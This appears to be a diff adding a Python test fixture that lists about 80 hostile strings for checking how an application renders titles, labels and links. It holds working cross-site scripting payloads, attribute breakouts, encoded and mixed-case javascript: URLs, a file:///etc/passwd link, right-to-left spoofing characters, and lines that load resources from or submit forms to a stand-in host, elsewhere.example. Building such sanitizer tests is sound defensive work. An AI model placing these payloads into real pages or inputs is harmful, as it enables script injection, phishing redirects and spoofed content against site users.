@@ -1,0 +1,100 @@
+"""Texts that attack whoever looks at them: 80 titles, sources, labels and payloads.
+
+They run script, load from elsewhere, close the markup around them, reverse what stands beside them,
+or are so long or so strange that they break a layout. The host elsewhere.example must never be
+asked for anything.
+"""
+
+ELSEWHERE = "https://elsewhere.example"
+
+_SCRIPTS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "<img src=x onerror=alert(3)>",
+    f"<img src={ELSEWHERE}/pixel.gif>",
+    "<svg onload=alert(4)>",
+    "<svg><script>alert(5)</script></svg>",
+    "<body onload=alert(6)>",
+    "<iframe srcdoc='<script>parent.alert(7)</script>'></iframe>",
+    f"<iframe src={ELSEWHERE}></iframe>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(8)>",
+    "<details open ontoggle=alert(9)>",
+    "<input autofocus onfocus=alert(10)>",
+    "<a href=javascript:alert(11)>click</a>",
+    "<object data='data:text/html,<script>alert(12)</script>'></object>",
+    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
+    f"<style>@import url({ELSEWHERE}/y.css);*{{display:none}}</style>",
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
+    f"<base href={ELSEWHERE}/>",
+    f"<form action={ELSEWHERE}><button>Sign in</button></form>",
+    "<template><script>alert(13)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(14)>'>",
+    "<xmp><script>alert(15)</script></xmp>",
+    "<textarea><script>alert(16)</script>",
+    "</title><script>alert(17)</script>",
+    "</textarea></pre></div></main><script>alert(18)</script>",
+    "<!--<script>alert(19)</script>-->",
+    "--><script>alert(20)</script>",
+    "]]><script>alert(21)</script>",
+    "<div hx-get='/dead' hx-trigger='load' hx-target='body'>",
+    f"<div hx-get='{ELSEWHERE}' hx-trigger='load'>",
+    "<div data-hx-on--load='alert(22)' hx-on::load='alert(23)'>",
+    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
+)
+_ATTRIBUTES = (
+    '"><script>alert(30)</script>',
+    "'><script>alert(31)</script>",
+    '" onmouseover="alert(32)" x="',
+    "' onfocus='alert(33)' autofocus tabindex=0 x='",
+    "`onload=alert(34)`",
+    'x" style="position:fixed;inset:0;background:url(https://elsewhere.example/s)"',
+    '\\"};alert(35);//',
+    "&quot;&gt;&lt;script&gt;alert(36)&lt;/script&gt;",
+    "&#60;script&#62;alert(37)&#60;/script&#62;",
+    "%3Cscript%3Ealert(38)%3C/script%3E",
+    "\\u003cscript\\u003ealert(39)\\u003c/script\\u003e",
+    "+ADw-script+AD4-alert(40)+ADw-/script+AD4-",
+    "\u00bcscript\u00bealert(41)\u00bc/script\u00be",
+    "\uff1cscript\uff1ealert(42)\uff1c/script\uff1e",
+)
+_LINKS = (
+    "javascript:alert(50)",
+    "JaVaScRiPt:alert(51)",
+    "java\nscript:alert(52)",
+    " javascript:alert(53)",
+    "\x01javascript:alert(54)",
+    "data:text/html,<script>alert(55)</script>",
+    "vbscript:msgbox(56)",
+    "file:///etc/passwd",
+    "//elsewhere.example/x",
+    'https://elsewhere.example/"onclick=alert(57)',
+    "https://user:secret@elsewhere.example/",
+    "http://[::1]:99999/",
+    "https://xn--80ak6aa92e.example/",
+    "https:///",
+)
+_LETTERS = (
+    "Price \u202e000,1 EUR\u202c today",
+    "\u202emoc.elpmaxe//:sptth",
+    "\u2066\u2067\u2068 isolates left open",
+    "\u200f\u200f\u200eRLM and LRM",
+    "zero\u200bwidth\u2060joined\ufeffmark",
+    "null\x00byte and \x07bell \x1b[31mred\x1b[0m",
+    "\x85next line \u2028line separator\u2029paragraph",
+    "lone surrogate \ud800 high and \udc00 low",
+    "tag \U000e0041\U000e0042\U000e0043 letters",
+    "Z" + "\u0300\u0301\u0302\u0303\u0334\u0335\u0336" * 200 + "algo",
+    "\ufdfd" * 40 + " wide letters",
+    "\U00012031" * 60,
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 60,
+    "العربية " * 30 + "عنوان طويل",
+    "ไม่มีช่องว่างระหว่างคำ" * 40,
+)
+_LONG = (
+    "W" * 5_000,
+    "0123456789abcdef" * 600,
+    "word " * 20_000,
+    "/path" * 2_000,
+    "&amp;" * 3_000,
+)
+HOSTILE = (*_SCRIPTS, *_ATTRIBUTES, *_LINKS, *_LETTERS, *_LONG)
